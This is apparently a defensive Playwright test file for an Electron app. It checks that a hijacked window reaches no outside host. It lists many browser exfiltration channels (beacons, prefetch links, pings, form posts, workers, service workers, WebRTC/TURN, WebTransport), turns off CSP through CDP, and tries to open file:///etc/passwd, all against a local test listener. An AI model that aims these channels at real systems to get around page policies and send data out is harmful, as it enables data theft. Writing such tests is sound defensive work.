import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { BrowserWindow } from '../../support/electron/browser-window';
import { textWith } from '../../support/matchers';
import { tinyPack } from '../../support/temporary-pack';
import { hasBrowser } from '../fixture';
import { ElectronStudio } from './electron-studio';
import { type Elsewhere, nothing, openElsewhere } from './elsewhere';

type Facts = Readonly<Record<string, string>>;

/** Runs in the page: what a window that was taken over may try, and what it gets of it. */
const byElement =
  (name: string, facts: (to: string) => Facts) =>
  (to: string): string =>
    `const made = document.createElement('${name}');
     for (const [key, value] of Object.entries(${JSON.stringify(facts(to))})) made.setAttribute(key, value);
     document.body.append(made);
     made.click();`;

const attacks: [name: string, script: (to: string) => string][] = [
  ['a style sheet', byElement('link', (to) => ({ rel: 'stylesheet', href: `${to}/a.css` }))],
  ['a prefetch', byElement('link', (to) => ({ rel: 'prefetch', href: `${to}/a` }))],
  ['a connection in advance', byElement('link', (to) => ({ rel: 'preconnect', href: to }))],
  ['a name in advance', byElement('link', (to) => ({ rel: 'dns-prefetch', href: to }))],
  ['a manifest', byElement('link', (to) => ({ rel: 'manifest', href: `${to}/a.json` }))],
  ['a film', byElement('video', (to) => ({ src: `${to}/a.mp4`, poster: `${to}/a.png` }))],
  ['an embedded thing', byElement('embed', (to) => ({ src: `${to}/a`, type: 'text/html' }))],
  ['the audit of a click', byElement('a', (to) => ({ href: '/elsewhere', ping: `${to}/ping` }))],
  ['a form', (to) => `${byElement('form', () => ({ action: `${to}/form`, method: 'post' }))(to)}; made.submit();`],
  ['events of a server', (to) => `new EventSource('${to}/events');`],
  ['a font', (to) => `new FontFace('evil', 'url(${to}/a.woff2)').load().catch(() => undefined);`],
  ['a style', (to) => `document.body.style.backgroundImage = 'url(${to}/a.png)';`],
  ['a worker', (to) => `new Worker(URL.createObjectURL(new Blob(["importScripts('${to}/a.js')"])));`],
  ['a service worker', (to) => `navigator.serviceWorker.register('${to}/a.js').catch(() => undefined);`],
  ['a module', (to) => `import('${to}/a.js').catch(() => undefined);`],
];

describe.skipIf(!hasBrowser)('a window that was taken over reaches nothing on the network', () => {
  let studio: ElectronStudio;
  let page: Page;
  let elsewhere: Elsewhere;

  beforeAll(async () => {
    elsewhere = await openElsewhere();
    studio = await ElectronStudio.start(tinyPack);
    ({ page } = studio);
  });
  afterAll(async () => {
    await studio.stop();
    elsewhere.close();
  });
  afterEach(() => {
    expect(elsewhere.heard()).toEqual(nothing);
  });

  test('by requests, pictures, sockets, frames and beacons: the policy forbids them', async () => {
    const outcomes = await page.evaluate(async (to) => {
      const settle = (promise: Promise<unknown>) =>
        promise.then(
          () => 'done',
          () => 'refused',
        );
      const loaded = (element: HTMLImageElement) =>
        new Promise((resolve, reject) => {
          element.onload = resolve;
          element.onerror = reject;
        });
      const image = new Image();
      image.src = `${to}/image.png`;
      const socket = new Promise((resolve, reject) => {
        const opened = new WebSocket(to.replace('http', 'ws'));
        opened.onopen = resolve;
        opened.onerror = reject;
      });
      const frame = document.createElement('iframe');
      frame.src = `${to}/frame`;
      document.body.append(frame);
      navigator.sendBeacon(`${to}/beacon`);
      return [await settle(fetch(`${to}/fetch`)), await settle(loaded(image)), await settle(socket)];
    }, elsewhere.address);
    expect(outcomes).toEqual(['refused', 'refused', 'refused']);
  });

  test('by requests, were there no policy: the guard refuses them', async () => {
    const cdp = await page.context().newCDPSession(page);
    await cdp.send('Page.setBypassCSP', { enabled: true });
    await page.reload();
    const failures: string[] = [];
    page.on('requestfailed', (request) => failures.push(request.failure()?.errorText ?? ''));
    const outcome = await page.evaluate(
      (to) => fetch(to, { mode: 'no-cors' }).then(String, () => 'refused'),
      elsewhere.address,
    );
    expect(outcome).toBe('refused');
    expect(failures).toEqual([textWith('ERR_BLOCKED_BY_CLIENT')]);
    await cdp.send('Page.setBypassCSP', { enabled: false });
    await page.reload();
  });

  test('by WebRTC and WebTransport, which neither policy nor guard concerns', async () => {
    const outcome = await page.evaluate(
      async ({ udp, port }) => {
        const urls = [`stun:127.0.0.1:${udp}`, `turn:127.0.0.1:${udp}`, `turn:127.0.0.1:${port}?transport=tcp`];
        const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a secret', credential: 'x' }] });
        peer.createDataChannel('out');
        await peer.setLocalDescription(await peer.createOffer());
        const certificate = { algorithm: 'sha-256', value: new Uint8Array(32) };
        const transport = new WebTransport(`https://127.0.0.1:${udp}/`, { serverCertificateHashes: [certificate] });
        const opened = await transport.ready.then(
          () => 'opened',
          () => 'refused',
        );
        await new Promise((resolve) => setTimeout(resolve, 1500));
        peer.close();
        return opened;
      },
      { udp: elsewhere.udp, port: elsewhere.port },
    );
    expect(outcome).toBe('refused');
  });

  test.each(attacks)('by %s', async (_name, script) => {
    const code = `{ try { ${script(elsewhere.address)} } catch {} } new Promise((resolve) => setTimeout(resolve, 250))`;
    await page.evaluate(code);
  });

  test('by going elsewhere, in this window or another', async () => {
    const before = page.url();
    await page.evaluate((to) => {
      location.href = `${to}/location`;
      window.open(`${to}/window`);
      window.open('file:///etc/passwd');
      const link = document.createElement('a');
      Object.assign(link, { href: `${to}/link`, target: '_blank' });
      document.body.append(link);
      link.click();
      link.remove();
    }, elsewhere.address);
    await expect.poll(() => page.context().pages().length).toBe(1);
    await page.evaluate(() => (location.href = '/elsewhere'));
    await page.evaluate(() => {
      const form = document.createElement('form');
      document.body.append(form);
      form.submit();
      form.remove();
    });
    expect(page.url()).toBe(before);
    expect(BrowserWindow.getAllWindows()).toHaveLength(1);
  });
});
